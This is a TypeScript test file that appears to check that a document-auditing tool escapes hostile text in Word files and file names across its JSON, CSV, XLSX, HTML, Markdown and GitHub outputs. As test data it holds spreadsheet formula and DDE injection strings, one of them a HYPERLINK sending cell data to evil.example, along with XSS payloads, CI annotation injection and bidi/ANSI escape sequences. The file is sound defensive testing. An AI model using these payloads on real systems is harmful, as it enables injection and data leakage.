import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { parquetReadObjects } from 'hyparquet';
import { beforeAll, describe, expect, test } from 'vitest';
import { cell, table, text, titleCell } from '../../fixtures/make/pages/build.ts';
import { plan } from '../../fixtures/make/traps/plan.ts';
import { docx } from '../../fixtures/make/writers/docx/package.ts';
import { folderWith } from '../audit/folder.ts';
import { run } from './here.ts';

/** Words that mean something to a spreadsheet, a browser, a runner, a terminal or a reader of text from right to left. */
const WORDS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open") as required',
  '+1+cmd|" /C calc"!A0 as required',
  '-2+3 will have access to help as required',
  '@SUM(1+1) will have access to help as required',
  '＝1+1 will have access to help as required',
  '<script>alert(1)</script><img src=x onerror=alert(2)> as required',
  '</style></main><svg onload=alert(3)> ]]> <!-- as required',
  '[a](javascript:alert(4)) ![b](http://evil.example/x.png) | `c` as required',
  '::error file=x::owned%0A##[error]owned as required',
  '\u202Eright to left\u2066 and \u200B as required',
];

/** Only XML 1.1 and Word itself would let them through: they come in as what a font maps elsewhere. */
const ANSI = '\u009b31mred\u009d0;owned\u009c as required';

const rows = [...WORDS, ANSI].map((words) => [cell(words), cell(words), cell(words)]);
const GRID = table(
  [1, 1, 1],
  [['Provision', 'Who', 'How often'].map((title) => titleCell(title)), ...rows],
  1,
);
const PLAN = docx(
  plan({
    bodies: { F: [GRID], E: WORDS.map((words) => text(words)), D: WORDS.map((words) => text(words)) },
  }),
);
const NAMES = [
  '=HYPERLINK("x","y").docx',
  '<svg onload=x>.docx',
  '\u202Efdp.\u001b[31m.docx',
  '@a,b;c|d`e`.docx',
];

/** What a terminal would obey; line breaks of the format itself apart. */
const OBEYED = /[^\n\r\t\P{Cc}]|[\u202a-\u202e\u2066-\u2069]/u;
const FORMULA = /(?:^|,)"[=+\-@\t＝＋－＠]/mu;

let cwd = '';
let text1 = '';
const written = new Map<string, Uint8Array>();

beforeAll(async () => {
  cwd = await folderWith({});
  for (const name of NAMES) await writeFile(join(cwd, name), PLAN);
  const place = await folderWith({});
  const files = [
    'a.json',
    'a.ndjson',
    'a.sarif',
    'a.xml',
    'a.md',
    'a.csv',
    'a.xlsx',
    'a.html',
    't/',
    'a.parquet',
  ];
  const outputs = files.flatMap((name) => ['-o', join(place, name)]);
  const { stdout, stderr } = await run(['check', '.', '--identifiable', '--verbose', ...outputs], { cwd });
  const saved = join(place, 'a.json');
  const github = await run(['report', saved, '--format', 'github'], { cwd });
  const one = await run(['check', NAMES[0] ?? '', '--identifiable'], { cwd });
  text1 = [stdout, stderr, github.stdout, one.stdout].join('\n');
  written.set('github', Buffer.from(github.stdout));
  for (const file of await readdir(place, { recursive: true, withFileTypes: true }))
    if (file.isFile()) written.set(file.name, await readFile(join(file.parentPath, file.name)));
});

const textOf = (name: string): string => Buffer.from(written.get(name) ?? []).toString('utf8');

describe('hostile words in documents and in their names', () => {
  test('reach neither a terminal nor a text format as what they would be obeyed for', () => {
    expect(text1).toContain('HYPERLINK');
    expect(text1).not.toMatch(OBEYED);
    for (const name of ['a.json', 'a.ndjson', 'a.sarif', 'a.xml', 'a.md', 'a.csv', 'a.html', 'provision.csv'])
      expect([name, OBEYED.exec(textOf(name))]).toEqual([name, null]);
  });

  test('start no cell of a table that a spreadsheet would run', () => {
    const tables = [...written.keys()].filter((name) => name.endsWith('.csv'));
    expect(tables).toHaveLength(9);
    expect(textOf('provision.csv')).toContain("'=HYPERLINK");
    for (const name of tables) expect([name, FORMULA.exec(textOf(name))?.[0]]).toEqual([name, undefined]);
  });

  test('are text in a workbook, and links in it lead to its own sheets', () => {
    const parts = Object.entries(unzipSync(written.get('a.xlsx') ?? new Uint8Array()));
    const sheets = parts
      .filter(([name]) => name.startsWith('xl/worksheets/'))
      .map(([, part]) => strFromU8(part));
    expect(sheets.join('')).toContain('=HYPERLINK');
    expect(sheets.join('')).not.toMatch(/<f[ >]/u);
    const relations = parts.filter(([name]) => name.endsWith('.rels')).map(([, part]) => strFromU8(part));
    expect(relations.join('')).not.toContain('evil.example');
    for (const sheet of sheets) expect(sheet).not.toMatch(OBEYED);
  });

  test('are text in a page, its text of the plan included', () => {
    const page = textOf('a.html');
    expect(page).toContain('<div class="document">');
    expect(page).toContain('&lt;script&gt;alert(1)');
    const tags = [...page.matchAll(/<([a-z][^\s>/]*)[^>]*>/giu)];
    expect(tags.filter(([, tag]) => /^(?:img|iframe|object|link|base|form)$/iu.test(tag ?? ''))).toEqual([]);
    const attributes = tags.flatMap(([tag]) =>
      [...tag.matchAll(/\s([a-z-]+)="[^"]*"/giu)].map(([, name = '']) => name),
    );
    expect(attributes.filter((name) => /^(?:on[a-z]+|style|src)$/iu.test(name))).toEqual([]);
    expect(page.match(/<script/gu)?.length ?? 0).toBeLessThanOrEqual(1);
    expect(page).not.toMatch(/href="(?!#|https:\/\/www\.)/u);
  });

  test('make no link, picture or element in Markdown', () => {
    const markdown = textOf('a.md');
    expect(markdown).toContain('HYPERLINK');
    const outsideCode = markdown.replaceAll(/(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)/gu, '');
    const made = /(?<!\\)\]\((?:javascript|http:)|!\[|(?<!\\)<(?:script|img|svg)/u.exec(outsideCode);
    expect(made).toBe(null);
  });

  test('begin no annotation of their own', () => {
    const lines = textOf('github').trimEnd().split('\n').slice(0, -1);
    expect(lines.length).toBeGreaterThan(10);
    for (const line of lines) expect(line).toMatch(/^::(?:error|warning|notice) file=[^,:]+,title=/u);
  });

  test('stand in Parquet as they are, for programs', async () => {
    const file = new Uint8Array(written.get('provision.parquet') ?? []).buffer;
    const items = await parquetReadObjects({ file });
    expect(items.length).toBeGreaterThan(10);
  });
});
